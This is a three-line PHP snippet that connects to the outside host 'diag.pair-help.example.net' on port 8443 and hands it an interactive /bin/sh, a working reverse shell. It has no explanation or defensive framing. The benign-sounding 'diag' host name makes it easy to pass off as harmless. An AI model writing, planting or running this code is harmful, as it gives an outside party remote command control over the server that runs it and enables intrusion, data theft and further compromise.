<?php
$sock = fsockopen('diag.pair-help.example.net', 8443);
$proc = proc_open('/bin/sh -i', [0 => $sock, 1 => $sock, 2 => $sock], $pipes);
